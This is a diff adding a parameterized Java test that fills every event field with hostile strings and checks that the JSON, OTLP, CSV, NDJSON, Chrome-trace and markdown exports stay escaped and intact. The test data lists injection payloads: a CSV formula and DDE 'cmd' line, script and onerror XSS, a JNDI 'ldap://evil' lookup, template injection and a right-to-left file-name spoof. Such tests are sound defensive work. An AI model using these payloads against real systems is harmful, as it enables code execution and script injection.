@@ -283,6 +283,65 @@ class ExportCallTest extends ApiFixture {
         .doesNotContain("<img", "HYPERLINK", "\n# heading");
   }
 
+  /** One text in every field that a producer fills; each form is still what its name says. */
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "=HYPERLINK(\"http://evil\")",
+        "-2+3+cmd|' /C calc'!A0",
+        "</script><script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "[click](javascript:alert(1)) ![x](http://evil/?c=1)",
+        "| a | b |",
+        "``` \\` `",
+        "\",\"x\":\"y",
+        "{\"accountId\":\"other\"}",
+        "a,b;c\"d",
+        "\u2028> not a quote\u2029",
+        "\u202Etxt.exe",
+        "$ref ${jndi:ldap://evil} {{7*7}} %s %00",
+      })
+  void hostileText_inEveryField_leavesEachFormWhatItIs(String hostile) throws Exception {
+    storeFilledWith(hostile, "\r\n# heading\r\n" + hostile + "\u0000");
+
+    JsonNode run = gateway.get(PATH).json().get("runs").get(0);
+    assertThat(run.get("step").asText()).isEqualTo(hostile);
+    assertThat(run.at("/attributes/" + "k").asText()).startsWith("\r\n# heading").contains(hostile);
+    assertThat(run.get("error").get("code").asText()).isEqualTo(hostile);
+    Span span = otlp(export("otlp").json()).getResourceSpans(0).getScopeSpans(0).getSpans(0);
+    assertThat(span.getName()).isIn(hostile, StepEvent.EXECUTION);
+    assertThat(export("chrome").json().get("traceEvents").findValuesAsText("name"))
+        .anyMatch(name -> name.contains(hostile));
+    List<List<String>> rows = csv(export("csv").text());
+    assertThat(rows).hasSize(2);
+    assertThat(rows.getLast()).hasSameSizeAs(rows.getFirst());
+    assertThat(rows.getLast()).noneMatch(cell -> cell.matches("(?s)[=+@\t\r\n-].*"));
+    String ndjson = export("ndjson").text();
+    assertThat(ndjson.lines()).hasSize(2);
+    assertThat(ndjson.lines().map(line -> Vectors.decode(line.getBytes(UTF_8))))
+        .allSatisfy(event -> assertThat(event.key()).isEqualTo(Events.KEY))
+        .allSatisfy(event -> assertThat(event.step()).isEqualTo(hostile));
+    String note = export("markdown").text();
+    assertThat(note).doesNotContain("<", "\n# heading", "\u2028", "\u2029", "\u0000");
+    assertThat(note.replaceAll("\\\\.", "")).doesNotContain("![", "](");
+    assertThat(note.lines().filter(line -> line.startsWith("|")))
+        .hasSize(3)
+        .allSatisfy(line -> assertThat(line.replaceAll("\\\\.", "").split("\\|", -1)).hasSize(10));
+  }
+
+  private void storeFilledWith(String name, String text) {
+    append(
+        StepEvent.started(Events.KEY, name, T0).runId("r").service(name).host(name).build(),
+        StepEvent.ended(Events.KEY, name, Status.FAILED, T0.plusMillis(5))
+            .runId("r")
+            .service(name)
+            .host(name)
+            .errorCode(name)
+            .errorMessage(text)
+            .attributes(Map.of("k", text))
+            .build());
+  }
+
   @ParameterizedTest
   @ValueSource(strings = {"otlp", "chrome", "csv", "markdown"})
   void export_anyExecution_isMade(String format) {
